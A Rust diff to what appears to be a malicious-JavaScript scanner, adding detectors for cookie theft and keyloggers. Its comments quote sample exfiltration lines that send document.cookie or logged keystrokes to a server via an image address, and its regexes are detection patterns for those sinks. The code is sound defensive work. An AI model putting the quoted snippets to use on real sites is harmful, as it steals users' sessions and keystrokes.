@@ -332,8 +332,11 @@ fn injected_in(js: &[u8], inner: &Inner<'_>) -> Option<Injection> {
     if let Some(at) = invisible_frame(js) {
         return high(at);
     }
-    if let Some(at) = skims_payment_forms(js) {
+    if let Some(at) = skims_payment_forms(js).or_else(|| logs_keys(js)) {
         return Some(Injection { why: Why::CredentialCollector, danger: Danger::High, at });
+    }
+    if let Some(at) = sends_cookies(js) {
+        return Some(Injection { why: Why::StealsCookies, danger: Danger::High, at });
     }
     if let Some(at) = fetched_and_run(js).or_else(|| hidden_remote_text(js)) {
         return high(at);
@@ -698,6 +701,55 @@ fn skims_payment_forms(js: &[u8]) -> Option<usize> {
     let sent = SENDS_TO_ANOTHER_SITE.is_match(js) || (SENDER.is_match(js) && FULL_ADDRESS.is_match(js));
     sent.then_some(reads.start())
 }
+
+/// The page's cookies put in a request (`new Image().src = server + '/steal?c=' +
+/// encodeURIComponent(document.cookie)`, `xhr.send(document.cookie)`): a session thief
+/// (fresh96's XSS payloads). A cookie set (`document.cookie = …`) is the site's own.
+fn sends_cookies(js: &[u8]) -> Option<usize> {
+    memchr::memmem::find_iter(js, b"document.cookie").take(MAX_COOKIE_READS).find(|&p| {
+        let after = js[p + b"document.cookie".len()..].trim_ascii_start();
+        if after.first() == Some(&b'=') && after.get(1) != Some(&b'=') {
+            return false;
+        }
+        let window = &js[p.saturating_sub(COOKIE_WINDOW)..p];
+        let statement = &window[window.iter().rposition(|&c| c == b';' || c == b'}').map_or(0, |k| k + 1)..];
+        COOKIE_SINK.is_match(statement)
+            || (COOKIE_REQUEST.is_match(statement) && memchr::memmem::find(statement, b"://").is_some())
+    })
+}
+/// Where a statement sends what follows: an element's address, the page's, a beacon.
+static COOKIE_SINK: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)\.src\s*=|location(?:\.href)?\s*=|sendBeacon\s*\(").expect("cookie sink regex")
+});
+/// A request, which counts given an address written whole (WordPress posts the cookies to its
+/// own `ajaxurl` to check the session).
+static COOKIE_REQUEST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)\bfetch\s*\(|\.send\s*\(|\.open\s*\(|\$\.(?:get|post|ajax)\s*\(").expect("cookie request regex")
+});
+/// How many readings of the cookies are looked at, and how far back for their statement.
+const MAX_COOKIE_READS: usize = 64;
+const COOKIE_WINDOW: usize = 200;
+
+/// A keylogger: a key listener, the keys gathered into a text, and a picture's address or a
+/// beacon to send them (fresh96's `evil_form.js`: `keyBuffer += e.key`, then
+/// `new Image().src = server + '/keylog?k=' + btoa(keyBuffer)`).
+fn logs_keys(js: &[u8]) -> Option<usize> {
+    let at = KEY_LISTENER.find(js)?.start();
+    (KEYS_GATHERED.is_match(js) && KEYS_SENT.is_match(js)).then_some(at)
+}
+static KEY_LISTENER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?-u)addEventListener\(\s*['"]key(?:press|down|up)['"]|\.onkey(?:press|down|up)\s*="#)
+        .expect("key listener regex")
+});
+static KEYS_GATHERED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(?-u)\+=\s*(?:e|ev|evt|event)\.(?:key|keyCode|which|charCode)\b|",
+        r"\+=\s*String\.fromCharCode\(\s*(?:e|ev|evt|event)\.(?:keyCode|which|charCode)",
+    ))
+    .expect("keys gathered regex")
+});
+static KEYS_SENT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?-u)new\s+Image\b|sendBeacon\s*\(").expect("keys sent regex"));
 
 /// The first text in escape codes that hides a name of what runs code or changes the page.
 fn hidden_name(js: &[u8]) -> Option<usize> {
